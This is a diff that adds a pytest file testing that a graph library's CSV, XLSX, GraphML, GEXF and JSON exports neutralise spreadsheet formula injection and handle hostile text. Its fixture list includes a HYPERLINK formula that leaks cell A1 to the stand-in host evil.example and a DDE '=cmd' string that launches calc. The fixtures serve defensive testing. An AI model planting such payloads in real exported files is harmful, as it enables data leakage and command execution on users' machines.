@@ -1,0 +1,121 @@
+"""Hostile values in every field through every export: no crash, formulas neutralised
+in CSV/XLSX, and exact round-trip modulo the documented text cleaning."""
+from __future__ import annotations
+
+import csv
+import io
+import zipfile
+
+import networkx as nx
+import pytest
+from openpyxl import load_workbook
+
+from weaving.interchange import FORMATS, MEDIA_TYPES, export_graph, import_file
+from weaving.interchange.values import FORMULA_TRIGGERS, neutralise, unneutralise
+
+from .conftest import actor, link, snapshot
+
+HOSTILE = [
+    "<script>alert('x')</script>",
+    '=HYPERLINK("http://evil.example/?q="&A1,"klicka")',
+    "+1", "-2", "@SUM(A1:A9)", "-=Test", "'=already quoted", "''+twice",
+    "\ttab first", "\rcr first", "x" * 10_000,
+    "nul\x00byte\x01\x1f", "emoji 😀👩‍👩‍👧 🇸🇪", "مرحبا بالعالم \u202eRTL override", "ÅÄÖ åäö é",
+    "a;b,c\"d'e", "line1\r\nline2\rline3", "  spaced  ", "&amp; <![CDATA[x]]> ]]>",
+]
+
+
+def hostile_graph() -> nx.MultiGraph:
+    G = nx.MultiGraph(name="=cmd|' /C calc'!A0")
+    ids = []
+    for i, text in enumerate(HOSTILE):
+        node = ["=1+2", "😀", "@id"][i] if i < 3 else f"h{i}"
+        ids.append(node)
+        G.add_node(node, **actor(f"{i}:{text}", "association", area=text, description=text,
+                                 themes=[text[:50] or "t", f"=t{i}"], target_groups=["-g"],
+                                 resources=["@r"], contacts=[f"+{i}"], extra_field=text))
+    for i in range(len(ids) - 1):
+        G.add_edge(ids[i], ids[i + 1], key="dialogue",
+                   **link("dialogue", purpose=HOSTILE[i], place=HOSTILE[-1 - i],
+                          carried_by=[f"-{i}"], directed=i % 2 == 0, **({"source": ids[i + 1]} if i % 2 == 0 else {})))
+    return G
+
+
+def test_neutralise_inverse():
+    for s in HOSTILE + ["", "'", "''", "'x", "'-", "x=", "=", "'''=a"]:
+        assert unneutralise(neutralise(s)) == s
+        assert neutralise(s)[:1] not in FORMULA_TRIGGERS
+
+
+@pytest.mark.parametrize("fmt", FORMATS)
+def test_hostile_round_trip(fmt):
+    G = hostile_graph()
+    data = export_graph(G, fmt)
+    r = import_file(data, "h" + MEDIA_TYPES[fmt][0])
+    assert not r.errors, [p.describe("en") for p in r.errors[:3]]
+    assert snapshot(r.graph) == snapshot(G, clean=True)
+    assert r.graph.nodes["h5"]["label"] == "5:-=Test"
+
+
+def test_hostile_label_alone_round_trips_exactly():
+    G = nx.MultiGraph()
+    for i, text in enumerate(["-=Test", "=HYPERLINK(\"x\")", "+1", "@SUM(1)", "'=a"]):
+        G.add_node(f"n{i}", **actor(text))
+    for fmt in ("csv", "kumu_xlsx"):
+        got = import_file(export_graph(G, fmt), "x" + MEDIA_TYPES[fmt][0]).graph
+        assert snapshot(got) == snapshot(G)
+
+
+def _csv_cells(data: bytes):
+    with zipfile.ZipFile(io.BytesIO(data)) as zf:
+        for name in zf.namelist():
+            text = zf.read(name).decode("utf-8-sig")
+            for row in csv.reader(io.StringIO(text, newline=""), delimiter=";"):
+                yield from row
+
+
+def test_csv_formulas_neutralised():
+    cells = list(_csv_cells(export_graph(hostile_graph(), "csv")))
+    assert cells
+    assert not [c for c in cells if c[:1] in FORMULA_TRIGGERS]
+    assert "'=HYPERLINK(\"http://evil.example/?q=\"&A1,\"klicka\")" in {c.split(":", 1)[-1] for c in cells} \
+        or any(c.startswith("'=HYPERLINK") for c in cells)
+    assert not any("\x00" in c for c in cells)
+
+
+def test_xlsx_formulas_neutralised():
+    wb = load_workbook(io.BytesIO(export_graph(hostile_graph(), "kumu_xlsx")))
+    seen = 0
+    for ws in wb.worksheets:
+        for row in ws.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f"
+                if isinstance(cell.value, str):
+                    seen += 1
+                    assert cell.value[:1] not in FORMULA_TRIGGERS
+    assert seen > 100
+
+
+@pytest.mark.parametrize("fmt", ["graphml", "gexf"])
+def test_xml_formats_parse_with_networkx(fmt):
+    data = export_graph(hostile_graph(), fmt)
+    assert b"\x00" not in data
+    reader = nx.read_graphml if fmt == "graphml" else nx.read_gexf
+    H = reader(io.BytesIO(data))
+    assert H.number_of_nodes() == len(HOSTILE)
+
+
+def test_json_is_exact_without_import_cleaning():
+    import json
+
+    G = hostile_graph()
+    doc = json.loads(export_graph(G, "json"))
+    labels = {n["id"]: n["label"] for n in doc["nodes"]}
+    assert labels["h11"] == "11:" + HOSTILE[11]  # NUL kept: JSON can carry it
+
+
+def test_xlsx_cell_limit():
+    G = nx.MultiGraph()
+    G.add_node("a", **actor("A", description="y" * 40_000))
+    r = import_file(export_graph(G, "kumu_xlsx"), "x.xlsx")
+    assert len(r.graph.nodes["a"]["description"]) == 32_767
